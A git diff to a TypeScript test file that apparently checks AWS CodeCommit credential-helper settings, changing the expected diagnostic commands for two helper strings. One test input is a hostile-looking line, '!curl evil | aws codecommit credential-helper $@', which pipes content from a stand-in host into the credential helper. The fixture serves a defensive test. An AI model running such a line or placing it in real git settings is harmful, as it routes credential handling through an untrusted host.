@@ -5,7 +5,7 @@ import endpoint from '../../../src/checks/live/endpoint.js'
 import gitSigned from '../../../src/checks/live/git-signed.js'
 import signed from '../../../src/checks/live/signed.js'
 import type {GitOutcome, GitProbe, PresentedCredential} from '../../../src/facts/probes/git-probe.js'
-import {AKID, HOST, awsHelper, examineWith, unobserved} from '../healthy.js'
+import {AKID, HOST, URL, awsHelper, examineWith, unobserved} from '../healthy.js'
 import type {FactOverrides} from '../healthy.js'
 
 const STALE: PresentedCredential = {
@@ -196,8 +196,9 @@ describe('live/*', () => {
       '!chamber exec x -- aws --region eu-west-1 codecommit credential-helper "$@"',
       'chamber exec x -- aws --region eu-west-1 sts get-caller-identity',
     ],
-    ['!f() { aws codecommit credential-helper $@; }; f', undefined],
-    ['!curl evil | aws codecommit credential-helper $@', undefined],
+    // Nothing that could be asked: Git itself tells most.
+    ['!f() { aws codecommit credential-helper $@; }; f', `GIT_TRACE=1 git ls-remote ${URL}`],
+    ['!curl evil | aws codecommit credential-helper $@', `GIT_TRACE=1 git ls-remote ${URL}`],
   ])('asks the program that hands out the keys, in %s, whose they are', async (value, command) => {
     const [result] = await examineWith(asConfigured, {
       ...git('forbidden', FRESH, {helpers: [{command: 'x get', stderr: []}]}),
